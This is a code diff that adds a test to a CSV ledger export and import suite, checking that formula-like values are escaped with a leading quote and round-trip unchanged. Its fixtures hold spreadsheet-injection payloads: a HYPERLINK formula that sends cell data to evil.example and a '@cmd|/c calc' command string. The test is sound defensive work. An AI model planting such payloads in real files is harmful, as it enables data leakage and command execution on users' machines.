@@ -56,6 +56,22 @@ describe.each(DIALECTS)('built-in ledger CSV on %s', (dialect) => {
     expect(rows.find((r) => r.serial === 'F17ZX1ABC')).toMatchObject({ assigned_email: 'taro.sato@example.co.jp', assigned_name: '佐藤 太郎', notes: '営業部・東京\n「予備」, "二台目"' });
   });
 
+  it('writes formulas in device names and notes as text, and imports them back unchanged (issue 14)', async () => {
+    const db = await createTestDatabase(dialect);
+    try {
+      const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
+      await db.prisma.device.create({ data: { serial: 'FORMULA1', assetNumber: '-42', platform: 'ios', status: 'in_use', source: 'intune', mdmSource: 'intune', mdmDeviceId: 'm-1', deviceName: formula, notes: '@cmd|/c calc', userEmail: '+1@example.com' } });
+      const csv = await exportLedgerCsv(db.prisma);
+      const row = rowsOf(csv).find((r) => r.serial === 'FORMULA1')!;
+      expect(row).toMatchObject({ device_name: `'${formula}`, notes: "'@cmd|/c calc", asset_number: "'-42", user_email: "'+1@example.com" });
+      expect((parse(csv, { bom: true }) as string[][]).flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(await importLedgerCsv(db.prisma, csv, 'U0IMPORT')).toEqual({ created: 0, updated: 0, unchanged: 1 });
+      expect(await db.prisma.device.findFirst({ where: { serial: 'FORMULA1' } })).toMatchObject({ assetNumber: '-42', notes: '@cmd|/c calc', deviceName: formula });
+    } finally {
+      await db.cleanup();
+    }
+  });
+
   it('round-trips into an empty database: every non-MDM field kept, MDM fields left to the sync', async () => {
     const exported = await exportLedgerCsv(source.prisma);
     const report = await importLedgerCsv(target.prisma, exported, 'U0IMPORT');
